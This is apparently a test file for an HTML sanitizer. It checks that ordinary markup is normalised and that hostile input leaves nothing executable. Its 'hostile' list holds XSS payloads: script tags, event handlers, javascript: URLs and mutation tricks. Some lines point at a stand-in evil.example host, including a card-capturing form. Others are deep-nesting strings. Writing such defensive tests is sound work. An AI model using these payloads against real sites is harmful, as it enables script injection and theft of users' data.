import { isAllowedTag, type SafeNode } from "#app/domain/content/safe-html.ts";
import { readHtml } from "./html-tree.ts";

const read = (html: string) => readHtml(html, ["https://media.test"]);

/** The tree as markup, to look at. */
const written = (nodes: readonly SafeNode[]): string =>
  nodes
    .map((node) => {
      if (typeof node === "string") return node.replaceAll("<", "&lt;");
      const attributes = Object.entries(node.attributes ?? {}).map(([name, value]) => ` ${name}="${value}"`);
      return `<${node.tag}${attributes.join("")}>${written(node.children ?? [])}</${node.tag}>`;
    })
    .join("");

const elementsOf = (nodes: readonly SafeNode[]): { tag: string; attributes?: Readonly<Record<string, string>> }[] =>
  nodes.flatMap((node) => (typeof node === "string" ? [] : [node, ...elementsOf(node.children ?? [])]));

describe("ordinary markup", () => {
  it.each([
    ["<p>One <b>two</b></p>", "<p>One <b>two</b></p>"],
    ["<p>a<br>b</p>", "<p>a<br></br>b</p>"],
    ["<P>Loud<BR/>tags</P>", "<p>Loud<br></br>tags</p>"],
    ["<h1>Title</h1>", "<h2>Title</h2>"],
    ["<a href='/help' title=Help>x</a>", '<a title="Help" href="/help">x</a>'],
    ["&copy; A&nbsp;B &amp; C &lt;b&gt; &unknown;", "© A\u00a0B & C &lt;b> &unknown;"],
    [
      "<img src=https://media.test/x.png alt='A box'>after",
      '<img src="https://media.test/x.png" alt="A box"></img>after',
    ],
    ["<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"],
    ["<p>a<p>b", "<p>a</p><p>b</p>"],
    ["<p>a<div>b</div>c", "<p>a</p><div>b</div>c"],
    ["<p><span>a<ul><li>b</ul>", "<p><span>a</span></p><ul><li>b</li></ul>"],
    [
      "<table><tr><td>1<td>2<tr><td>3</table>",
      "<table><tbody><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></tbody></table>",
    ],
    ["<table> <tr> <td>1</td> </tr> </table>", "<table><tbody><tr><td>1</td></tr></tbody></table>"],
    ["<ul>words</ul>", "<ul><li>words</li></ul>"],
    ["<li>alone</li>", "alone"],
    ["<a href='/a'>x<a href='/b'>y</a></a>", '<a href="/a">xy</a>'],
    ["<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"],
    ["<custom-thing>kept words</custom-thing>", "kept words"],
    ["<!doctype html><html><body><p>page</p></body></html>", "<p>page</p>"],
    ["5 < 6 & 7 > 2", "5 &lt; 6 & 7 > 2"],
    ["", ""],
  ])("%s is read as %s", (html, tree) => {
    expect(written(read(html))).toBe(tree);
  });
});

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://media.test/x.png' onload='alert(1)'>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=' java&#10;script:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:x'>x</a>",
  "<form action='https://evil.example'><input name=card><button>Pay</button></form>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{display:none}</style>",
  "<p style='position:fixed' class=x id=root onclick=alert(1)>x</p>",
  "<object data=x></object><embed src=x><applet>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<p/onclick=alert(1)>x</p>",
  "<details open ontoggle=alert(1)>x</details>",
  "<img src='https://evil.example/pixel.png'>",
  "<video><source onerror=alert(1)></video>",
  "<p title='\"><script>alert(1)</script>'>x</p>",
  `${"<div>".repeat(5000)}deep`,
  `<p>${"<b>".repeat(100_000)}`,
  "\u0000<p>\u0001x",
  "<",
  "</p></div></html>",
  "<?php evil() ?>",
];

describe("hostile markup", () => {
  it.each(hostile.map((html) => [html.slice(0, 70), html]))("%s leaves nothing that runs", (_name, html) => {
    const tree = read(html);
    for (const { tag, attributes = {} } of elementsOf(tree)) {
      expect(isAllowedTag(tag)).toBe(true);
      expect(Object.keys(attributes).filter((name) => /^on|style|class|^id$|srcdoc/.test(name))).toEqual([]);
      expect(attributes["href"] ?? "/").toMatch(/^(\/(?![\\/])|https?:|mailto:|tel:|#|\?)/);
      expect(attributes["src"] ?? "https://media.test/").toMatch(/^https:\/\/media\.test\//);
    }
    expect(written(tree)).not.toMatch(/<(script|style|iframe|svg|form|input|object|link|meta|base)/);
  });

  it("goes together with what it holds, and takes nothing else along", () => {
    expect(written(read("<p>a</p><input name=x><p>b</p><form><p>c</p></form><p>d</p>"))).toBe(
      "<p>a</p><p>b</p><p>d</p>",
    );
  });

  it("is not nested deeper than a page can bear", () => {
    const depth = (nodes: readonly SafeNode[]): number =>
      Math.max(0, ...nodes.map((node) => (typeof node === "string" ? 1 : 1 + depth(node.children ?? []))));
    expect(depth(read("<div>".repeat(3000)))).toBeLessThan(60);
  });
});
